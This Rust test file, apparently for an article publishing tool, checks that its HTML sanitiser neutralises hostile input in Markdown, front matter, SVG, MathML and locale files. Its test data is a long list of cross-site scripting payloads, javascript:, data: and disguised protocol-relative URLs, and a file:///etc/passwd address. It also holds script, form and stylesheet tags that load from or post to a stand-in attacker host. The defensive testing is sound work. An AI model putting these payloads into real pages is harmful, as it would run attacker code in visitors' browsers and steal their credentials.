//! Rows 70–78 and 88: HTML and addresses that could act.

use super::{EN, META, PAGE, assert_inert, body, neutralised, published, rejected, without_data};
use crate::support::body_of;

#[test]
fn fault_070_script() {
    neutralised(&[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "A word <script>alert(1)</script> and another.",
        "<script\n>alert(1)</script\n>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
        "\\<script>alert(1)\\</script>",
        "- <script>\n  alert(1)\n  </script>",
        "> <script>alert(1)",
        "| <script>alert(1)</script> |\n|---|\n| `<script>` \\| <script> |",
        "```<script>\n<script>alert(1)</script>\n```",
        "``` \"><script>alert(1)</script>\n</code></pre><script>\n```",
        "    <script>alert(1)</script>",
        "`</code><script>alert(1)</script>`",
        "## <script>x</script> {#\"><script>}",
        "## Title {#a\"onmouseover=\"alert(1)}",
        "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
        "![<script>alert(1)</script>](map.svg \"<script>\")",
        "![a](<map.svg\"><script>> '\"><script>')",
        "[a](https://a.example/\"><script>alert(1)</script>)",
        "[a](<https://a.example/><script>> \"\\\"><script>\")",
        "<https://a.example/\"><script>alert(1)</script>>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo '<script>' ?><script>",
        "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
        "{ $days }<script>{ $days }</script>",
        "{ NUMBER($days, x: \"<script>alert(1)</script>\") }",
        "</div></article></main><script>alert(1)</script>",
        "&#x3c;/div>\n</article><script>",
    ]);
}

#[test]
fn fault_070_script_in_values() {
    let evil = "<script>alert(1)</script>\\\" onload=x & ' </title>";
    let toml = format!(
        "+++\nheadline = \"{evil}\"\nstandfirst = \"{evil}\"\nteaser = \"{evil}\"\ncredit = \"{evil}\"\nslug = \"kites\"\n\n[alt]\n\"map.svg\" = \"{evil}\"\n\n[section.north]\nteaser = \"{evil}\"\n\n[messages]\nm = \"{evil} {{ $days }}\"\n+++\n\n![](map.svg) {{ m }} {{ $evil }}\n"
    );
    let yaml = format!(
        "---\nheadline: \"{evil}\"\nstandfirst: \"{evil}\"\nteaser: |\n  <script>alert(1)</script>\ncredit: '<script> \" & '\nslug: kites\nalt: {{ map.svg: \"{evil}\" }}\nmessages: {{ m: \"{evil}\" }}\n---\n\n![](map.svg) {{ m }} {{ $evil }}\n"
    );
    // A fact is one word.
    let word = evil.replace(' ', "/");
    let meta =
        format!("authors = [\"{evil}\"]\nlead-image = \"map.svg\"\n{META}evil = \"{word}\"\n");
    let strings = "site-name = <script>alert(1)</script> \" & '\nsite-tagline = </title><script>\nbyline = <img src=x onerror=alert(1)> { $authors }\nfootnotes-title = <b>\nfootnote-back = \"><script>\n";
    for variant in [toml, yaml] {
        let files = [
            (EN, variant.as_str()),
            ("content/kites/article.toml", &meta),
            ("locales/en/site.ftl", strings),
        ];
        let outcome = published(&files);
        for path in [
            PAGE,
            "north/index.html",
            "north/articles/index.html",
            "north/atom.xml",
            "north/404.html",
        ] {
            let page = outcome.page(path).unwrap_or_else(|| panic!("{path}: {}", outcome.text()));
            let page = &without_data(page);
            assert!(!page.contains("<script"), "{path}: {page}");
            assert!(!page.contains("<img src=x"), "{path}: {page}");
            assert_eq!(page.matches("</title>").count(), page.matches("<title>").count(), "{path}");
            for (ix, _) in page.match_indices(" onload") {
                // In text only: no attribute's value has been closed before.
                let tag = page[..ix].rfind('<').expect("a tag");
                let open = &page[tag..ix];
                assert!(open.contains('>') || open.matches('"').count() % 2 == 1, "{path}: {open}");
            }
        }
        assert_inert(body_of(outcome.page(PAGE).expect("a page")));
    }
}

/// Spellings of an address that must never be a link's or an image's.
fn spelt(address: &str) -> Vec<String> {
    vec![
        format!("[a]({address})"),
        format!("[a](<{address}>)"),
        format!("[a]({address} \"title\")"),
        format!("<{address}>"),
        format!("![a]({address})"),
        format!("![a](<{address}> 'x')"),
        format!("[a][b]\n\n[b]: {address}"),
        format!("[b]\n\n[b]: <{address}> \"x\""),
        format!("![b]\n\n[b]: {address}"),
        format!("| [a]({address}) |\n|---|\n| ![a]({address}) |"),
        format!("[^1]\n\n[^1]: [a]({address})"),
        format!("## [a]({address}) {{#x}}"),
        format!("[![a](map.svg)]({address})"),
        format!("[a **b `c`**]({address})"),
        format!("> - [a]({address})"),
    ]
}

fn no_address(addresses: &[&str], codes: &[&str]) {
    for address in addresses {
        let all = spelt(address).join("\n\n***\n\n");
        let (outcome, html) = body(&all);
        assert_inert(&html);
        assert!(codes.iter().any(|code| outcome.has(code)), "{address}: {:?}", outcome.codes());
        for spelling in spelt(address) {
            let (_, html) = body(&spelling);
            assert_inert(&html);
        }
    }
}

#[test]
fn fault_071_javascript_addresses() {
    no_address(
        &[
            "javascript:alert(1)",
            "java&#9;script:alert(1)",
            "JaVaScRiPt:alert(1)",
            "&#106;avascript&colon;alert(1)",
            "javascript&#x3A;alert(1)",
            "&#1;javascript:alert(1)",
            "&#32;javascript:alert(1)",
            "java&NewLine;script:alert(1)",
            "java&Tab;script&colon;alert(1)",
            "&#x6A&#x61;vascript:x",
            "vbscript:msgbox(1)",
            "javascript://a.example/%0aalert(1)",
            "javascript\\:alert(1)",
            "\\javascript:alert(1)",
            "view-source:javascript:x",
            "blob:https://a.example/x",
            "filesystem:https://a.example/x",
            "file:///etc/passwd",
            "jar:https://a.example!/x",
            "&nbsp;javascript:alert(1)",
            "&#xFEFF;javascript:alert(1)",
        ],
        &["dangerous-url", "broken-link"],
    );
    let (_, html) = body("<javascript:alert(1)> [a](<javascript:alert(1)>)");
    assert!(!html.contains("href"), "{html}");
}

#[test]
fn fault_072_data_addresses() {
    no_address(
        &[
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "DATA:image/svg+xml,x",
            "d&#97;ta:text/html,x",
            "data:image/png;base64,iVBORw0KGgo=",
            "&#10;data:x",
        ],
        &["dangerous-url"],
    );
}

#[test]
fn fault_073_event_handlers() {
    neutralised(&[
        "<img src=x onerror=alert(1)>",
        "A <img src=x ONERROR = 'alert(1)'> word",
        "![x](map.svg \"\\\" onerror=\\\"alert(1)\")",
        "![\" onerror=\"alert(1)](map.svg)",
        "![&quot; onerror=&quot;alert(1)](map.svg)",
        "[x](https://a.example/\"onclick=\"alert(1))",
        "[x](https://a.example/&quot;onclick=&quot;alert(1))",
        "[x](https://a.example 'a\" onclick=\"alert(1)')",
        "[x](map.svg '&quot; onclick=&quot;')",
        "[x][y]\n\n[y]: <https://a.example/\" onclick=\"x> (\" onfocus=\"x)",
        "```\" onclick=\"alert(1)\nx\n```",
        "```a\tonclick=\"x\"\nx\n```",
        "~~~x\"onclick=\"y\nz\n~~~",
        "## x {#a onclick=\"x\"}",
        "## x {#a .b onclick=x}",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"#\" onclick=\"x\">x</a>",
    ]);
}

#[test]
fn fault_074_svg() {
    neutralised(&[
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a><set attributeName=href to=javascript:alert(1)></a></svg>",
        "<svg/onload=alert(1)>",
        "x <svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
        "<svg><foreignObject><iframe src=javascript:x></iframe></foreignObject></svg>",
    ]);
    let namespace = "xmlns=\"http://www.w3.org/2000/svg\" xmlns:s=\"http://www.w3.org/2000/svg\"";
    for inner in [
        "<animate onbegin='x'/>",
        "<s:animate attributeName=\"href\"/>",
        "<s:script>alert(1)</s:script>",
        "<script\n>x</script>",
        "<S:SET to=\"x\"/>",
        "<a xlink:href=\"https://evil.example/\"/>",
        "<g onload\n=\n'x'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        "<style>@import 'https://evil.example/x.css'</style>",
    ] {
        let svg = format!("<svg {namespace}>{inner}</svg>");
        let outcome = published(&[("content/kites/map.svg", svg)]);
        assert!(outcome.has("unsafe-svg"), "{inner}");
        assert!(!outcome.files.keys().any(|path| path.contains("assets/map.")), "{inner}");
        assert_inert(body_of(outcome.page(PAGE).expect("a page")));
    }
}

#[test]
fn fault_075_math() {
    neutralised(&[
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "x <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "$<script>alert(1)</script>$ $$\\href{javascript:alert(1)}{x}$$",
    ]);
}

#[test]
fn fault_076_styles() {
    neutralised(&[
        "<div style=\"position:fixed;inset:0\">x</div>",
        "<style>body{display:none}</style>",
        "x <b style='position:fixed'>y</b>",
        "## x {#a style=\"position:fixed\"}",
        "```{style=\"position:fixed\"}\nx\n```",
        "| a |\n|:-:|\n| <td style=x> |",
        "<link rel=stylesheet href=//evil.example/x.css>",
    ]);
}

#[test]
fn fault_077_frames_and_heads() {
    neutralised(&[
        "<iframe src=//evil.example></iframe>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "x <iframe srcdoc=\"<script>alert(1)</script>\"> y",
        "<object data=x></object> <embed src=x> <frameset><frame src=x></frameset>",
        "</body></html><head><base href=x>",
        "<template><script>x</script></template> <noscript><p title=\"</noscript><script>x\">",
        "<title>x</title><textarea>",
        "<plaintext>",
        "<xmp><script>",
    ]);
}

#[test]
fn fault_078_forms_and_clobbering() {
    neutralised(&[
        "<form action=//evil.example><input name=password></form>",
        "<form id=x></form><button form=x formaction=javascript:alert(1)>",
        "<a id=location name=cookie href=x>x</a>",
        "<img name=getElementById>",
        "- [ ] task <input type=checkbox>",
        "<isindex action=x>",
        "## x {#hx-main}",
    ]);
    let (_, html) = body("## One {#cookie}\n\n## Two {#location}\n\n## Three {#hx-ref-1}\n");
    // Headings are not among the elements that `document` and forms look up by name.
    assert!(html.contains("<h2 id=\"cookie\">") && !html.contains("id=\"hx-ref-1\""), "{html}");
    assert!(!html.contains(" name="));
}

#[test]
fn fault_088_other_hosts_in_disguise() {
    no_address(
        &[
            "//evil.example/",
            "/\\evil.example",
            "\\\\\\\\evil.example",
            "\\/evil.example",
            "/&#9;/evil.example",
            "&#9;//evil.example",
            "/&sol;evil.example",
            "&#47;&#47;evil.example",
            "///evil.example",
            "/&#10;\\evil.example",
            "&#1;//evil.example",
            "/&bsol;evil.example",
        ],
        // Two of them are a path of this site, as browsers see them too.
        &["protocol-relative-link", "broken-link"],
    );
    for address in ["https:evil.example", "https:/evil.example", "http:\\evil", "https&colon;evil"]
    {
        assert_inert(&body(spelt(address).join("\n\n***\n\n")).1);
    }
    rejected(&body("[a](//evil.example/)").0, "protocol-relative-link", EN, 8);
}
